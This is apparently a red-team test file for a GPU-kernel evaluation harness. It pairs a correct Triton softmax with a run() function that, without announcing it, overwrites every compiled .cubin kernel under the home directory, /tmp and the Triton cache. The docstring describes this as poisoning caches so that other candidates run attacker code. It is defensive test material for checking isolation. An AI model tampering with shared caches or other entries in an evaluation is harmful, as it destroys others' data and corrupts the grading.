"""Attack: poisoned_cache

Tries: overwrites compiled kernels in every cache that it finds.
Gains: The next candidate, or a baseline, runs the attacker's code.
Threats: P14, P15, X11
Answer: Caches are a candidate's own; shared ones are written by the referee only.
"""

import contextlib
import os
from pathlib import Path

import torch
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(x_ptr, out_ptr, cols, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    mask = offsets < cols
    x = tl.load(x_ptr + row * cols + offsets, mask=mask, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, axis=0))
    tl.store(out_ptr + row * cols + offsets, e / tl.sum(e, axis=0), mask=mask)


def softmax(x):
    rows, cols = x.shape
    out = torch.empty_like(x)
    softmax_kernel[(rows,)](x, out, cols, BLOCK=triton.next_power_of_2(cols))
    return out


def run(x):
    for folder in (Path.home(), Path("/tmp"), Path(os.environ.get("TRITON_CACHE_DIR", "."))):
        with contextlib.suppress(OSError):
            for file in folder.rglob("*.cubin"):
                with contextlib.suppress(OSError):
                    file.write_bytes(b"not a kernel")
    return softmax(x)
